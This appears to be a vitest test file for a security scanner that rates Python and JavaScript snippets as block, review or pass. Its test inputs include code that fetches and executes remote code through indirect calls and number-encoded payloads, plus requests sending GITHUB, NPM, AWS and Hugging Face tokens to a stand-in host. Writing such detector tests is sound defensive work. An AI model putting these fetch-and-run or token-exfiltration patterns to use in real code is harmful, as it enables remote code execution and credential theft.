// Code that reaches what runs it by a way round: handed on, kept in state, made of numbers.
import { describe, expect, it } from 'vitest';
import { decision } from './support.ts';

const FETCHED = 'requests.get("https://example.invalid/x").text';
const IMPORTS =
  'import os, requests, threading, atexit, functools, multiprocessing, asyncio, socket, boto3\n';
const PROGRAM = Array.from('import os\nos.system("id")', (char) => char.charCodeAt(0));

describe('a function that is handed on', () => {
  it.each([
    `list(map(exec, [${FETCHED}]))`,
    `list(filter(exec, [${FETCHED}]))`,
    `functools.reduce(exec, [${FETCHED}, {}])`,
    `threading.Thread(target=exec, args=(${FETCHED},)).start()`,
    `multiprocessing.Process(target=exec, args=[${FETCHED}]).start()`,
    `threading.Timer(3, exec, [${FETCHED}]).start()`,
    `atexit.register(exec, ${FETCHED})`,
    `from concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().submit(exec, ${FETCHED})`,
    `asyncio.get_event_loop().call_soon(exec, ${FETCHED})`,
  ])('is called: %s', async (line) => {
    expect(await decision('a.py', `${IMPORTS}${line}\n`)).toBe('block');
  });

  it.each([
    `threading.Thread(target=print, args=(${FETCHED},)).start()`,
    `list(map(str.strip, [${FETCHED}]))`,
    'atexit.register(os.remove, "x")',
  ])('may be harmless: %s', async (line) => {
    expect(await decision('a.py', `${IMPORTS}${line}\n`)).toBe('pass');
  });
});

describe('ways to fetch', () => {
  it.each([
    'exec(os.popen("curl -s https://example.invalid/x").read())',
    's = socket.create_connection(("example.invalid", 80))\nexec(s.makefile().read())',
    'exec(boto3.client("s3").get_object(Bucket="b", Key="k")["Body"].read())',
    `import pandas as pd\npd.eval(${FETCHED})`,
  ])('are known: %s', async (line) => {
    expect(await decision('a.py', `${IMPORTS}${line}\n`)).toBe('block');
  });

  it('are not any command', async () => {
    expect(await decision('a.py', 'import os\nexec(os.popen("cat version.py").read())\n')).toBe('pass');
  });
});

describe('what goes through state', () => {
  const inClass = (body: string): string => `import requests\nclass A:\n${body}`;

  it.each([
    inClass(
      `    def __init__(self):\n        self.c = {}\n    def load(self):\n        self.c["k"] = ${FETCHED}\n    def go(self):\n        exec(self.c["k"])\n`,
    ),
    inClass(
      `    @property\n    def code(self):\n        return ${FETCHED}\n    def go(self):\n        exec(self.code)\n`,
    ),
    `import requests\ndef g():\n    yield ${FETCHED}\nfor c in g():\n    exec(c)\n`,
    'import urllib.request, subprocess\nfrom pathlib import Path\nd = Path("/tmp")\nurllib.request.urlretrieve("https://example.invalid/x", d / "x")\nsubprocess.run([d / "x"])\n',
  ])('is followed: %s', async (text) => {
    expect(await decision('a.py', text)).toBe('block');
  });

  it.each([
    inClass(
      `    def load(self):\n        self.c["k"] = ${FETCHED}\n    def go(self):\n        print(self.c["k"])\n        exec(self.d["k"])\n`,
    ),
    inClass(
      `    @property\n    def code(self):\n        return ${FETCHED}\n    def go(self):\n        print(self.code)\n`,
    ),
    `import requests\ndef g():\n    yield ${FETCHED}\nfor c in g():\n    print(c)\n`,
  ])('is not mixed up: %s', async (text) => {
    expect(await decision('a.py', text)).toBe('pass');
  });

  it('is looked at when a module fetches and runs code at import', async () => {
    const far = 'y = 1\n'.repeat(300);
    const text = (code: string): string => `import requests\nx = ${FETCHED}\n${far}exec(${code})\n`;
    expect(await decision('a.py', text('mangle(open("q").read())'))).toBe('review');
    expect(await decision('a.py', text('open("version.py").read()'))).toBe('pass');
  });
});

describe('code that is made of numbers', () => {
  it.each([
    [`exec(bytes(b ^ 7 for b in [${PROGRAM.map((code) => code ^ 7).join()}]))`, 'block'],
    [`exec("".join(map(chr, [${PROGRAM.join()}])))`, 'block'],
    ['from k import key\nexec("".join(chr(c ^ key) for c in [96, 100]))', 'review'],
    ['exec(bytes(b ^ key for b in data))', 'review'],
    [`print("".join(map(chr, [${PROGRAM.join()}])))`, 'pass'],
    ['exec("x = 1")\nx = bytes(b ^ 7 for b in data)', 'pass'],
  ])('%s', async (text, expected) => {
    expect(await decision('a.py', `${text}\n`)).toBe(expected);
  });
});

describe('tokens of services', () => {
  const python = (call: string): string =>
    `import os, requests\nfrom huggingface_hub import HfFolder\nfrom google.colab import userdata\n${call}\n`;

  /** A function that talks to one of two services, each with its own token. */
  const EITHER = [
    'if claude:',
    '    url, key = "https://api.anthropic.com/v1/messages", os.environ["ANTHROPIC_API_KEY"]',
    'else:',
    '    url, key = "https://api.openai.com/v1/responses", os.environ["OPENAI_API_KEY"]',
  ].join('\n');

  it.each([
    ['requests.post("https://c.example.invalid/", data=os.environ["GITHUB_TOKEN"])', 'review'],
    ['requests.post("https://c.example.invalid/", json={"t": HfFolder.get_token()})', 'review'],
    ['requests.get("https://c.example.invalid/", params={"t": userdata.get("HF_TOKEN")})', 'review'],
    [
      'requests.post("https://c.example.invalid/", json=[os.environ["NPM_TOKEN"], os.getenv("AWS_SESSION_TOKEN")])',
      'block',
    ],
    [
      'requests.get("https://api.github.com/user", headers={"Authorization": "Bearer " + os.environ["GITHUB_TOKEN"]})',
      'pass',
    ],
    ['requests.get("http://localhost:80/", headers={"A": os.environ["GITHUB_TOKEN"]})', 'pass'],
    ['requests.get("https://api.example.com/", headers={"A": os.environ["EXAMPLE_TOKEN"]})', 'pass'],
    ['requests.get(BASE, headers={"A": os.environ["GITHUB_TOKEN"]})', 'pass'],
    [`${EITHER}\nrequests.post(url, headers={"a": key})`, 'pass'],
    [
      `${EITHER.replace('api.openai.com', 'c.example.invalid')}\nrequests.post(url, headers={"a": key})`,
      'block',
    ],
  ])('%s', async (call, expected) => {
    expect(await decision('a.py', python(call))).toBe(expected);
  });

  it('are known in JavaScript', async () => {
    const to = (host: string): string =>
      `fetch("https://${host}/", { headers: { a: "Bearer " + process.env.NPM_TOKEN } });\n`;
    expect(await decision('a.js', to('c.example.invalid'))).toBe('review');
    expect(await decision('a.js', to('registry.npmjs.org'))).toBe('pass');
  });
});
